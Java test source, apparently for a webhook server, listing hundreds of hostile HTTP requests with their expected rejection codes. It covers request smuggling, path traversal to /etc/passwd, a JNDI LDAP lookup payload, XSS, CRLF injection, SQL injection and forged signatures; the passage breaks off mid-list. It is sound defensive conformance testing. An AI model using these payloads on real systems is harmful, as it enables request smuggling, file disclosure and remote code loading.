package dev.ackbox.http;

import static dev.ackbox.http.Attack.CANARY;
import static dev.ackbox.http.Attack.PATH;
import static dev.ackbox.http.Attack.SECRET;
import static dev.ackbox.http.Attack.TOKEN;
import static dev.ackbox.http.Attack.forged;
import static dev.ackbox.http.Attack.genuine;
import static dev.ackbox.http.Attack.get;
import static dev.ackbox.http.Attack.open;
import static dev.ackbox.http.Attack.request;
import static dev.ackbox.http.Attack.signature;
import static dev.ackbox.http.Attack.signed;
import static dev.ackbox.http.Attack.signedAndOpen;
import static dev.ackbox.http.Attack.unsigned;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** The table of attacks, by family. */
final class Attacks {

    /** What a request would be smuggled in as; it is answered 404 where that succeeds. */
    private static final String SMUGGLED = "GET /" + CANARY + " HTTP/1.1\r\nHost: x\r\n\r\n";

    private static final String LAST_CHUNK = "0\r\n\r\n";
    private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";

    /** Where the connection is just closed, or the request is called malformed. */
    private static final String MALFORMED = "400";

    private static final long SEED = 20_260_804;

    private Attacks() {}

    static Stream<Attack> all() {
        return Stream.of(
                        lengths(),
                        transferEncodings(),
                        chunks(),
                        lines(),
                        methods(),
                        targets(),
                        headers(),
                        signatures(),
                        encodings(),
                        bodies(),
                        handshakes(),
                        hosts(),
                        versions(),
                        otherProtocols(),
                        json(),
                        random())
                .flatMap(family -> family);
    }

    /** Two who disagree about where a body ends take what one of them smuggles for a request. */
    private static Stream<Attack> lengths() {
        String family = "length";
        return Stream.concat(
                Stream.of(
                                new Attack(
                                        family,
                                        "before chunked",
                                        open("Content-Length: 4\r\n" + CHUNKED, LAST_CHUNK + SMUGGLED),
                                        "401"),
                                new Attack(
                                        family,
                                        "after chunked",
                                        open(CHUNKED + "Content-Length: 4\r\n", LAST_CHUNK + SMUGGLED),
                                        "401"),
                                new Attack(
                                        family,
                                        "0 with chunked",
                                        open("Content-Length: 0\r\n" + CHUNKED, "2\r\n{}\r\n" + LAST_CHUNK + SMUGGLED),
                                        "401"),
                                new Attack(
                                        family,
                                        "two",
                                        open("Content-Length: 2\r\nContent-Length: 3\r\n", "{}" + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "two alike",
                                        open("Content-Length: 2\r\nContent-Length: 2\r\n", "{}" + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "of a GET that has a body",
                                        "GET /" + CANARY + " HTTP/1.1\r\nHost: x\r\nContent-Length: "
                                                + SMUGGLED.length() + "\r\n\r\n" + SMUGGLED,
                                        "404"),
                                new Attack(
                                        family,
                                        "of a handshake that has a body",
                                        "GET " + PATH + " HTTP/1.1\r\nHost: x\r\nContent-Length: " + SMUGGLED.length()
                                                + "\r\n\r\n" + SMUGGLED,
                                        "400"),
                                new Attack(
                                        family,
                                        "none, so that the body is a request",
                                        genuine("", "", SMUGGLED),
                                        "200 404"),
                                new Attack(
                                        family,
                                        "in a header of another name",
                                        genuine("", "Content_Length: 2\r\nContent-Length: 0\r\n", SMUGGLED),
                                        "200 404"),
                                new Attack(
                                        family,
                                        "with leading zeros",
                                        genuine("{}", "Content-Length: 0002\r\n", "{}" + SMUGGLED),
                                        "200 404"))
                        .map(Attack::halfClosed),
                Stream.of(
                                "-1",
                                "+2",
                                "0x2",
                                "2e0",
                                "2.0",
                                "2 2",
                                "2, 2",
                                "2,3",
                                "2;x",
                                "",
                                "two",
                                "99999999999999999999",
                                "-0",
                                "2\u00b2",
                                "\u00d9\u00a2",
                                "2\u000b",
                                "2\u0000",
                                "1_0",
                                "NaN",
                                "\"2\"",
                                "2\r\n 3")
                        .map(value -> new Attack(
                                        family,
                                        "'" + value + "'",
                                        open("Content-Length: " + value + "\r\n", "{}" + SMUGGLED),
                                        MALFORMED)
                                .halfClosed()));
    }

    private static Stream<Attack> transferEncodings() {
        String family = "transfer encoding";
        String body = LAST_CHUNK + SMUGGLED;
        return Stream.concat(
                Stream.of(
                                new Attack(
                                        family,
                                        "in upper case",
                                        genuine("", "TRANSFER-ENCODING: CHUNKED\r\n", body),
                                        "200 404"),
                                new Attack(
                                        family,
                                        "after a tab",
                                        genuine("", "Transfer-Encoding:\tchunked\r\n", body),
                                        "200 404"),
                                new Attack(family, "twice", open(CHUNKED + CHUNKED, body), MALFORMED),
                                new Attack(
                                        family,
                                        "identity, then chunked",
                                        open("Transfer-Encoding: identity\r\n" + CHUNKED, body),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with an underscore",
                                        genuine(
                                                LAST_CHUNK,
                                                "Transfer_Encoding: chunked\r\nContent-Length: 5\r\n",
                                                body),
                                        "200 404"),
                                new Attack(
                                        family,
                                        "in a folded line",
                                        open("Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n", body),
                                        "401"),
                                new Attack(
                                        family,
                                        "in the fold of another",
                                        genuine(
                                                LAST_CHUNK,
                                                "Content-Length: 5\r\nX: y\r\n Transfer-Encoding: chunked\r\n",
                                                body),
                                        "200 404"),
                                new Attack(
                                        family,
                                        "of HTTP/1.0",
                                        open(CHUNKED, body)
                                                .replace("HTTP/1.1\r\nHost: x\r\nX", "HTTP/1.0\r\nHost: x\r\nX"),
                                        "401|400"))
                        .map(Attack::halfClosed),
                Stream.of(
                                "Transfer-Encoding: xchunked",
                                "Transfer-Encoding: chunkedx",
                                "Transfer-Encoding: x, chunked",
                                "Transfer-Encoding: chunked, x",
                                "Transfer-Encoding: chunked, identity",
                                "Transfer-Encoding: chunked, chunked",
                                "Transfer-Encoding: gzip, chunked",
                                "Transfer-Encoding: gzip",
                                "Transfer-Encoding: deflate",
                                "Transfer-Encoding: \"chunked\"",
                                "Transfer-Encoding: chunked;q=1",
                                "Transfer-Encoding: ch\u00fcnked",
                                "Transfer-Encoding: \u000bchunked",
                                "Transfer-Encoding: chunked\u0000",
                                "Transfer-Encoding: ,",
                                "Transfer-Encoding:",
                                "Transfer-Encoding: " + CANARY,
                                "Transfer-Encoding : chunked",
                                "Transfer-Encoding\t: chunked",
                                "Transfer-Encoding\u0000: chunked",
                                " Transfer-Encoding: chunked",
                                "X: y\rTransfer-Encoding: chunked",
                                "X: y\n\rTransfer-Encoding: chunked")
                        .map(header -> new Attack(
                                        family,
                                        "'" + header + "'",
                                        open("Content-Length: 5\r\n" + header + "\r\n", body),
                                        MALFORMED)
                                .halfClosed()));
    }

    private static Stream<Attack> chunks() {
        String family = "chunk";
        String signed = "X-Hub-Signature-256: " + signature("{}") + "\r\n";
        return Stream.concat(
                        Stream.of(
                                new Attack(
                                        family,
                                        "with an extension",
                                        open(CHUNKED, "2;" + CANARY + "=\"x\"\r\n{}\r\n" + LAST_CHUNK),
                                        "401"),
                                new Attack(
                                        family,
                                        "with a long extension",
                                        open(CHUNKED, "2;" + CANARY.repeat(1_000) + "\r\n{}\r\n" + LAST_CHUNK),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with many extensions",
                                        open(
                                                CHUNKED,
                                                ("1;" + CANARY.repeat(30) + "\r\n{\r\n").repeat(100) + LAST_CHUNK),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with a signature behind it",
                                        "POST " + PATH + " HTTP/1.1\r\nHost: x\r\n" + CHUNKED
                                                + "Trailer: X-Hub-Signature-256\r\n\r\n2\r\n{}\r\n0\r\n" + signed
                                                + "\r\n",
                                        "401"),
                                new Attack(
                                        family,
                                        "with many trailers",
                                        open(CHUNKED, "0\r\n" + (CANARY + ": x\r\n").repeat(2_000) + "\r\n"),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with a long trailer",
                                        open(CHUNKED, "0\r\nX: " + CANARY.repeat(2_000) + "\r\n\r\n"),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with a trailer that is none",
                                        open(CHUNKED, "0\r\n" + CANARY + "\r\n\r\n"),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with a length behind it",
                                        genuine("", CHUNKED, "0\r\nContent-Length: 100\r\n\r\n" + SMUGGLED),
                                        "200 404"),
                                new Attack(family, "without an end", open(CHUNKED, "2\r\n{}"), MALFORMED),
                                new Attack(
                                        family,
                                        "shorter than it says",
                                        open(CHUNKED, "7fffffff\r\n" + CANARY),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "longer than it says",
                                        open(CHUNKED, "2\r\n{" + CANARY + "}\r\n" + LAST_CHUNK),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "that ends otherwise",
                                        open(CHUNKED, "2\r\n{}xx" + LAST_CHUNK + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "that ends in a bare LF",
                                        open(CHUNKED, "2\r\n{}\n" + LAST_CHUNK + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "that ends in a bare CR",
                                        open(CHUNKED, "2\r\n{}\r" + LAST_CHUNK + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "whose size ends in a bare LF",
                                        open(CHUNKED, "2\n{}\r\n" + LAST_CHUNK + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "whose extension has a bare LF",
                                        open(CHUNKED, "2;\n{}\r\n" + LAST_CHUNK + SMUGGLED),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with zeros before its size",
                                        open(CHUNKED, "0000002\r\n{}\r\n" + LAST_CHUNK),
                                        "401"),
                                new Attack(
                                        family,
                                        "with many zeros before its size",
                                        open(CHUNKED, "0".repeat(10_000) + "2\r\n{}\r\n" + LAST_CHUNK),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "that is empty, in place of the last",
                                        open(CHUNKED, "\r\n\r\n" + SMUGGLED),
                                        MALFORMED)),
                        Stream.of(
                                        "-1",
                                        "+2",
                                        "0x2",
                                        "2 ",
                                        " 2",
                                        "2\t",
                                        "g",
                                        "2g",
                                        "2,",
                                        "fffffffff",
                                        "80000000",
                                        "ffffffff",
                                        "-ffffffff",
                                        "\u00b2",
                                        "2\u0000")
                                .map(size -> new Attack(
                                        family,
                                        "of size '" + size + "'",
                                        open(CHUNKED, size + "\r\n{}\r\n" + LAST_CHUNK + SMUGGLED),
                                        MALFORMED)))
                .map(Attack::halfClosed);
    }

    private static Stream<Attack> lines() {
        String family = "line";
        return Stream.of(
                        new Attack(
                                family,
                                "ends are all bare LF",
                                get("/" + CANARY).replace("\r", ""),
                                "404|400"),
                        new Attack(
                                family,
                                "ends are all bare CR",
                                get("/" + CANARY).replace("\n", ""),
                                MALFORMED),
                        new Attack(
                                family, "ends are doubled CR", get("/" + CANARY).replace("\r\n", "\r\r\n"), MALFORMED),
                        new Attack(family, "s before the request are empty", "\r\n\r\n\r\n" + get("/" + CANARY), "404"),
                        new Attack(
                                family,
                                "s before the request go on and on",
                                "\r\n".repeat(50_000) + get("/" + CANARY),
                                "400|404|"),
                        new Attack(family, "is folded", get("/" + CANARY, "X: y\r\n z"), "404"),
                        new Attack(family, "is folded with a tab", get("/" + CANARY, "X: y\r\n\tz"), "404"),
                        new Attack(
                                family,
                                "of the signature is folded",
                                unsigned("{}", "X-Hub-Signature-256:\r\n " + signature("{}")),
                                "401"),
                        new Attack(
                                family, "of the request is all there is", "GET /" + CANARY + " HTTP/1.1\r\n", "400|"),
                        new Attack(family, "of the request breaks off", "GET /" + CANARY, "400|"),
                        new Attack(
                                family, "of a header breaks off", "GET / HTTP/1.1\r\nHost: x\r\nX: " + CANARY, "400|"),
                        new Attack(family, "is missing: nothing is sent", "", ""))
                .map(Attack::halfClosed);
    }

    private static Stream<Attack> methods() {
        String family = "method";
        return Stream.concat(
                Stream.of(
                        new Attack(family, "CONNECT", request("CONNECT x:443 HTTP/1.1"), MALFORMED),
                        new Attack(family, "CONNECT to the path", request("CONNECT " + PATH + " HTTP/1.1"), MALFORMED),
                        new Attack(
                                family,
                                "HTTP/2 without asking",
                                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
                                        + "\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u0000\u0000",
                                ""),
                        new Attack(family, "OPTIONS of everything", request("OPTIONS * HTTP/1.1"), "404"),
                        new Attack(family, "none", request(" " + PATH + " HTTP/1.1"), "405"),
                        new Attack(family, "alone", "GET\r\n\r\n", MALFORMED),
                        new Attack(family, "after a space", request(" GET " + PATH + " HTTP/1.1"), MALFORMED),
                        new Attack(family, "before two spaces", request("GET  " + PATH + " HTTP/1.1"), "400"),
                        new Attack(family, "before a tab", request("GET\t" + PATH + " HTTP/1.1"), "400"),
                        new Attack(
                                family,
                                "of 7,000 letters",
                                request("X".repeat(7_000) + " " + PATH + " HTTP/1.1"),
                                "405"),
                        new Attack(
                                family,
                                "of 100,000 letters",
                                request("X".repeat(100_000) + " " + PATH + " HTTP/1.1"),
                                MALFORMED),
                        new Attack(
                                family,
                                "in another",
                                request("GET " + PATH + " HTTP/1.1", "X-HTTP-Method-Override: PUT"),
                                "400")),
                Stream.concat(
                        Stream.of(
                                        "TRACE",
                                        "HEAD",
                                        "OPTIONS",
                                        "PUT",
                                        "DELETE",
                                        "PROPFIND",
                                        "get",
                                        "post",
                                        "Post",
                                        "GETPOST",
                                        "QUERY",
                                        CANARY,
                                        "!#$%&'*+-.^_`|~")
                                .map(method ->
                                        new Attack(family, method, request(method + " " + PATH + " HTTP/1.1"), "405")),
                        Stream.of("G\u0000T", "GE(T", "GET/", "G\u00cbT", "{GET}", "GET\r")
                                .map(method -> new Attack(
                                        family,
                                        "'" + method + "'",
                                        request(method + " " + PATH + " HTTP/1.1"),
                                        MALFORMED))));
    }

    private static Stream<Attack> targets() {
        String family = "target";
        return Stream.concat(
                Stream.of(
                        new Attack(family, "absolute", get("http://x" + PATH), "400|404"),
                        new Attack(family, "absolute, another port", get("http://x:9" + PATH), MALFORMED),
                        new Attack(family, "absolute, another host", get("http://" + CANARY + PATH), MALFORMED),
                        new Attack(family, "everything", get("*"), "404"),
                        new Attack(family, "before a tab", get("/\t"), "404"),
                        new Attack(family, "absolute, no path", get("http://x"), "404"),
                        new Attack(family, "absolute, no host", get("http://"), MALFORMED),
                        new Attack(family, "absolute, a user", get("http://a:b@x" + PATH), MALFORMED),
                        new Attack(family, "absolute, a file", get("file:///etc/passwd"), MALFORMED + "|404"),
                        new Attack(family, "a host and a port", get("x:80"), MALFORMED),
                        new Attack(family, "of 7,000 letters", get("/" + "x".repeat(7_000)), "404"),
                        new Attack(family, "of 100,000 letters", get("/" + CANARY.repeat(8_000)), MALFORMED),
                        new Attack(family, "of 3,000 steps down and up", get("/a/..".repeat(1_500)), "404|400"),
                        new Attack(
                                family,
                                "with a query of 100,000 letters",
                                get(PATH + "?" + CANARY.repeat(8_000)),
                                MALFORMED)),
                Stream.concat(
                        Stream.of(
                                        "//",
                                        "///",
                                        "/",
                                        "//" + CANARY,
                                        "/" + PATH,
                                        "/x/.." + PATH,
                                        PATH + "/../whatsapp",
                                        PATH + "/.",
                                        PATH + "//",
                                        "/./.",
                                        "/%2e%2e/%2e%2e/etc/passwd",
                                        PATH + "/%2e%2e",
                                        "/webhooks/%77hatsapp",
                                        "/webhooks/whatsapp%20",
                                        "/webhooks/whatsapp%E2%80%8B",
                                        PATH + ";" + CANARY,
                                        PATH + ";jsessionid=1?hub.mode=subscribe",
                                        "/;" + PATH,
                                        "/webhooks;x/whatsapp",
                                        PATH + "/",
                                        PATH + ".json",
                                        PATH + "%3f",
                                        "/WEB-INF/web.xml",
                                        "/META-INF/MANIFEST.MF",
                                        "/actuator/env",
                                        "/error",
                                        "/%C0%AE%C0%AE/",
                                        "/%FF%FE",
                                        "/.git/config",
                                        "/manager/html",
                                        "/cgi-bin/.%2e/.%2e/bin/sh")
                                .map(target -> new Attack(family, target, get(target), "404|400")),
                        Stream.of(
                                        "/..",
                                        "/../../etc/passwd",
                                        "/webhooks%2Fwhatsapp",
                                        "/webhooks%5cwhatsapp",
                                        "/..%2f..%2fetc/passwd",
                                        PATH + "%00",
                                        "/%",
                                        "/%2",
                                        "/%zz",
                                        "/%u0041",
                                        PATH + "\u0000",
                                        PATH + "\u00c0\u00af",
                                        "/\u00fc",
                                        "/\\",
                                        "\\",
                                        "/" + CANARY + " x",
                                        "/<script>" + CANARY + "</script>",
                                        "/{x}",
                                        "/|",
                                        "/^",
                                        "/`",
                                        "/\"",
                                        "/\u007f",
                                        "webhooks/whatsapp",
                                        "?" + CANARY,
                                        "#" + CANARY,
                                        PATH + "#" + CANARY)
                                .map(target -> new Attack(family, "'" + target + "'", get(target), MALFORMED))));
    }

    private static Stream<Attack> headers() {
        String family = "header";
        return Stream.concat(
                Stream.of(
                        new Attack(
                                family,
                                "with 1,000 cookies",
                                get("/" + CANARY, "Cookie: " + "a=b; ".repeat(1_000)),
                                MALFORMED),
                        new Attack(family, "that is the fold of another", get("/" + CANARY, " : x"), "404")
                                .halfClosed(),
                        new Attack(
                                family,
                                "s, 99 of them",
                                get("/" + CANARY, ("X: " + CANARY + "\r\n").repeat(96)),
                                "404"),
                        new Attack(
                                family,
                                "s, 200 of them",
                                get("/" + CANARY, ("X: " + CANARY + "\r\n").repeat(200)),
                                MALFORMED),
                        new Attack(
                                family, "s, 100,000 of them", get("/" + CANARY, "X:\r\n".repeat(100_000)), MALFORMED),
                        new Attack(family, "of 7,000 letters", get("/" + CANARY, "X: " + "x".repeat(7_000)), "404"),
                        new Attack(
                                family,
                                "of 1,000,000 letters",
                                get("/" + CANARY, "X: " + CANARY.repeat(80_000)),
                                MALFORMED),
                        new Attack(
                                family,
                                "name of 100,000 letters",
                                get("/" + CANARY, CANARY.repeat(8_000) + ": x"),
                                MALFORMED)),
                Stream.concat(
                        Stream.of(
                                        ": " + CANARY,
                                        CANARY,
                                        "X Y: " + CANARY,
                                        "X(: x",
                                        "X\u00e9: x",
                                        "X\u0001: x",
                                        "X\u0000: x",
                                        "X: \u0000" + CANARY,
                                        "X: " + CANARY + "\u0000",
                                        "X: \u0001",
                                        "X: \u007f",
                                        "X: \u001b[31m" + CANARY,
                                        "X: y\rz",
                                        "\u007f: x",
                                        "\"X\": y",
                                        "[X]: y",
                                        "{X}: y",
                                        "X,Y: z",
                                        "@: x")
                                .map(header ->
                                        new Attack(family, "'" + header + "'", get("/" + CANARY, header), MALFORMED)),
                        Stream.of(
                                        "X:",
                                        "X:y",
                                        "X: \u00e9\u00ff" + CANARY,
                                        "X: ${jndi:ldap://" + CANARY + "/x}",
                                        "Cookie: $Version=1; =" + CANARY + "; a=\"",
                                        "Range: bytes=0-,0-,0-",
                                        "X-Forwarded-For: " + CANARY,
                                        "X-Forwarded-Host: " + CANARY,
                                        "X-Forwarded-Proto: " + CANARY,
                                        "Forwarded: for=" + CANARY,
                                        "X-Original-URL: " + PATH,
                                        "X-Rewrite-URL: " + PATH,
                                        "Authorization: Basic " + CANARY,
                                        "Authorization: Digest \"",
                                        "Accept-Language: " + "x,".repeat(3_000),
                                        "Accept: */*;q=" + CANARY,
                                        "Accept-Encoding: gzip",
                                        "If-Modified-Since: " + CANARY,
                                        "If-None-Match: *",
                                        "Content-Type: " + CANARY,
                                        "Content-Type: text/html; charset=" + CANARY,
                                        "Max-Forwards: 0",
                                        "Connection: " + CANARY,
                                        "Connection: keep-alive, close, Content-Length",
                                        "Keep-Alive: timeout=99999",
                                        "Priority: u=9",
                                        "Early-Data: 1",
                                        "TE: trailers, " + CANARY,
                                        "Origin: http://" + CANARY,
                                        "Access-Control-Request-Method: PUT",
                                        "X-Request-Id: " + CANARY,
                                        "traceparent: 00-" + CANARY)
                                .map(header -> new Attack(
                                        family,
                                        "'" + (header.length() > 80 ? header.substring(0, 80) : header) + "'",
                                        get("/" + CANARY, header),
                                        "404"))));
    }

    private static Stream<Attack> signatures() {
        String family = "signature";
        String digest = signature("{}").substring("sha256=".length());
        String other = signature("{ }").substring("sha256=".length());
        return Stream.concat(
                Stream.of(
                        new Attack(family, "missing", unsigned("{}"), "401"),
                        new Attack(
                                family,
                                "right, twice",
                                unsigned(
                                        "{}",
                                        "X-Hub-Signature-256: sha256=" + digest,
                                        "X-Hub-Signature-256: sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, then wrong",
                                unsigned(
                                        "{}",
                                        "X-Hub-Signature-256: sha256=" + digest,
                                        "X-Hub-Signature-256: sha256=" + other),
                                "401"),
                        new Attack(
                                family,
                                "wrong, then right",
                                unsigned(
                                        "{}",
                                        "X-Hub-Signature-256: sha256=" + other,
                                        "X-Hub-Signature-256: sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, under another name",
                                unsigned("{}", "X-Hub-Signature: sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, with an underscore",
                                unsigned("{}", "X_Hub_Signature_256: sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, in the query",
                                unsigned("{}").replace(PATH, PATH + "?X-Hub-Signature-256=sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, in a cookie",
                                unsigned("{}", "Cookie: X-Hub-Signature-256=sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, at another path",
                                unsigned("{}", "X-Hub-Signature-256: sha256=" + digest)
                                        .replace(PATH, PATH + "//"),
                                "404"),
                        new Attack(
                                family,
                                "right, for a longer body",
                                unsigned("{} ", "X-Hub-Signature-256: sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "right, for no body",
                                unsigned("", "X-Hub-Signature-256: sha256=" + digest),
                                "401"),
                        new Attack(
                                family,
                                "of 1,000,000 letters",
                                unsigned("{}", "X-Hub-Signature-256: " + CANARY.repeat(80_000)),
                                MALFORMED)),
                Stream.of(
                                "",
                                " ",
                                "=",
                                "sha256",
                                "sha256=",
                                "sha256:" + digest,
                                "sha1=" + digest,
                                "sha1=" + digest.substring(24),
                                "SHA256=" + digest,
                                "sha-256=" + digest,
                                "sha512=" + digest + digest,
                                "md5=",
                                digest,
                                "=" + digest,
                                "sha256=" + digest.substring(1),
                                "sha256=" + digest + "0",
                                "sha256=" + digest + digest,
                                "sha256=" + other,
                                "sha256=" + digest.substring(1) + "g",
                                "sha256= " + digest,
                                "sha256 =" + digest,
                                "sha256=0x" + digest,
                                "sha256=\"" + digest + "\"",
                                "\"sha256=" + digest + "\"",
                                "sha256=" + digest + ",",
                                "sha256=" + digest + ", sha256=" + digest,
                                "sha256=" + digest + ";x",
                                "sha256=" + other + ",sha256=" + digest,
                                "sha256=" + digest + " x",
                                "sha256=" + digest.substring(2) + "\u00e9",
                                "sha256=" + digest.substring(1) + "\u00b2",
                                "sha256=" + digest.substring(3) + "\u00ef\u00bc\u0091",
                                "sha256=" + "%61".repeat(22),
                                "sha256=" + "0".repeat(64),
                                "sha256=" + "f".repeat(64),
                                "sha256=null",
                                "null",
                                "undefined",
                                "none",
                                "sha256=" + CANARY,
                                "x".repeat(7_000),
                                "t=1,v1=" + digest,
                                "Basic " + CANARY,
                                "' OR '1'='1")
                        .map(value -> new Attack(
                                family,
                                "'" + (value.length() > 80 ? value.substring(0, 80) : value) + "'",
                                unsigned("{}", "X-Hub-Signature-256: " + value),
                                "401")));
    }

    private static Stream<Attack> encodings() {
        String family = "encoding";
        String body = "{\"text\":\"" + CANARY + "\"}";
        return Stream.concat(
                Stream.of(
                                "gzip",
                                "x-gzip",
                                "GZIP",
                                "deflate",
                                "br",
                                "zstd",
                                "compress",
                                "identity, gzip",
                                "gzip, identity",
                                "identity, identity",
                                "*",
                                "",
                                CANARY,
                                "aws-chunked",
                                "gzip, gzip, gzip, gzip, gzip")
                        .map(encoding -> new Attack(
                                family, "'" + encoding + "'", signed(body, "Content-Encoding: " + encoding), "415")),
                Stream.of(
                        new Attack(
                                family,
                                "identity, then gzip",
                                signed(body, "Content-Encoding: identity", "Content-Encoding: gzip"),
                                "415"),
                        new Attack(family, "identity", signed(body, "Content-Encoding: identity"), "200"),
                        new Attack(family, "IDENTITY", signed(body, "Content-Encoding: IDENTITY"), "200"),
                        new Attack(family, "gzip, forged", forged(body, "Content-Encoding: gzip"), "415"),
                        new Attack(
                                        family,
                                        "gzip of chunks",
                                        open(CHUNKED + "Content-Encoding: gzip\r\n", "2\r\n{}\r\n" + LAST_CHUNK),
                                        "415")
                                .halfClosed(),
                        new Attack(
                                family,
                                "gzip at another path",
                                forged(body, "Content-Encoding: gzip").replace(PATH, "/"),
                                "404")));
    }

    private static Stream<Attack> bodies() {
        String family = "body";
        String chunk = "10000\r\n" + CANARY + "x".repeat((1 << 16) - CANARY.length()) + "\r\n";
        String large = CANARY + "x".repeat(5 << 20);
        String body = "{\"text\":\"" + CANARY + "\"}";
        return Stream.of(
                new Attack(
                        family,
                        "announced too large",
                        open("Content-Length: " + large.length() + "\r\n", CANARY),
                        "413"),
                new Attack(
                        family,
                        "announced as large as can be",
                        open("Content-Length: " + Long.MAX_VALUE + "\r\n", CANARY),
                        "413"),
                new Attack(family, "too large", forged(large), "413"),
                new Attack(family, "too large, signed", signed(large), "413"),
                new Attack(family, "too large at another path", forged(large).replace(PATH, "/"), "404"),
                new Attack(family, "too large of another method", forged(large).replace("POST", "PUT"), "405"),
                new Attack(family, "too large in chunks", open(CHUNKED, chunk.repeat(80) + LAST_CHUNK), "413"),
                new Attack(family, "in chunks without end", open(CHUNKED, chunk.repeat(160)), "413"),
                new Attack(
                                family,
                                "in chunks of one byte",
                                open(CHUNKED, "1\r\nx\r\n".repeat(50_000) + LAST_CHUNK),
                                "401")
                        .halfClosed(),
                new Attack(family, "shorter than announced", open("Content-Length: 1000\r\n", CANARY), "400|")
                        .halfClosed(),
                new Attack(family, "missing", open("Content-Length: 1000\r\n", ""), "400|").halfClosed(),
                new Attack(family, "missing, and the sender waits", open("Content-Length: 1000\r\n", ""), "408"),
                new Attack(family, "that stops, and the sender waits", open("Content-Length: 1000\r\n", CANARY), "408"),
                new Attack(
                        family, "that stops between chunks, and the sender waits", open(CHUNKED, "2\r\n{}\r\n"), "408"),
                new Attack(family, "none", request("POST " + PATH + " HTTP/1.1"), "401"),
                new Attack(
                                family,
                                "genuine, then forged, then genuine",
                                signedAndOpen(body) + open("Content-Length: 2\r\n", "{}") + signedAndOpen(body),
                                "200 401")
                        .halfClosed(),
                new Attack(
                                family,
                                "genuine, then garbage",
                                signedAndOpen(body) + "\u0001" + CANARY + "\r\n\r\n",
                                "200 400")
                        .halfClosed(),
                new Attack(
                                family,
                                "genuine, then another one in its rest",
                                genuine("{} ", "Content-Length: 3\r\n", "{} " + signedAndOpen(body)),
                                "200 200")
                        .halfClosed(),
                new Attack(
                                family,
                                "genuine, a hundred of them",
                                signedAndOpen(body).repeat(100),
                                "200( 200){99}")
                        .halfClosed(),
                new Attack(
                        family,
                        "that is a form",
                        forged(
                                "hub.mode=subscribe&hub.verify_token=" + TOKEN + "&hub.challenge=1",
                                "Content-Type: application/x-www-form-urlencoded"),
                        "401"),
                new Attack(
                        family,
                        "that is a form of many parts",
                        forged(
                                "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + CANARY + "\r\n--x--",
                                "Content-Type: multipart/form-data; boundary=x"),
                        "401"),
                new Attack(
                        family,
                        "in another character set",
                        forged(body, "Content-Type: application/json; charset=utf-7"),
                        "401"),
                new Attack(
                                family,
                                "expected first",
                                open("Expect: 100-continue\r\nContent-Length: 2\r\n", "{}"),
                                "100 401")
                        .halfClosed(),
                new Attack(
                        family,
                        "expected first, too large",
                        open("Expect: 100-continue\r\nContent-Length: " + large.length() + "\r\n", ""),
                        "413"),
                new Attack(
                        family, "expected first, without a signature", unsigned("{}", "Expect: 100-continue"), "401"),
                new Attack(family, "expected first, none", unsigned("", "Expect: 100-continue"), "401"),
                new Attack(family, "expected otherwise", forged("{}", "Expect: " + CANARY), "417"),
                new Attack(
                        family,
                        "expected twice",
                        forged("{}", "Expect: 100-continue, 100-continue"),
                        "417|100 401|401"),
                new Attack(
                        family,
                        "expected by HTTP/1.0",
                        forged("{}", "Expect: 100-continue").replace("HTTP/1.1", "HTTP/1.0"),
                        "401"));
    }

    private static Stream<Attack> handshakes() {
        String family = "handshake";
        String mode = "hub.mode=subscribe";
        String token = "hub.verify_token=" + TOKEN;
        String challenge = "hub.challenge=1158201444";
        return Stream.of(
                        Stream.of(
                                        String.join("&", mode, challenge),
                                        String.join("&", mode, token),
                                        String.join("&", token, challenge),
                                        String.join("&", mode, mode, token, challenge),
                                        String.join("&", mode, token, token, challenge),
                                        String.join("&", mode, "hub.verify_token=wrong", token, challenge),
                                        String.join("&", mode, token, "hub.verify%5ftoken=wrong", challenge),
                                        String.join("&", mode, token, challenge, challenge),
                                        String.join("&", mode, token, challenge, "hub%2Echallenge=2"),
                                        String.join(";", mode, token, challenge),
                                        String.join("&", mode, token, "hub.challenge="),
                                        String.join("&", mode, token, "hub.challenge"),
                                        String.join("&", mode, token, "hub.challenge[]=1"),
                                        String.join("&", mode, token, "HUB.CHALLENGE=1"),
                                        String.join("&", mode, token, "hub_challenge=1"),
                                        String.join(
                                                "&", mode, token, "hub.challenge=%3Cscript%3Ealert(1)%3C/script%3E"),
                                        String.join("&", mode, token, "hub.challenge=1%0d%0aSet-Cookie:%20" + CANARY),
                                        String.join("&", mode, token, "hub.challenge=1%0d%0a%0d%0a" + CANARY),
                                        String.join("&", mode, token, "hub.challenge=1%0a"),
                                        String.join("&", mode, token, "hub.challenge=1%00"),
                                        String.join("&", mode, token, "hub.challenge=%00"),
                                        String.join("&", mode, token, "hub.challenge=1+1"),
                                        String.join("&", mode, token, "hub.challenge=%7B%7B7*7%7D%7D"),
                                        String.join(
                                                "&", mode, token, "hub.challenge=$%7Bjndi:ldap://" + CANARY + "%7D"),
                                        String.join("&", mode, token, "hub.challenge=%D9%A1"),
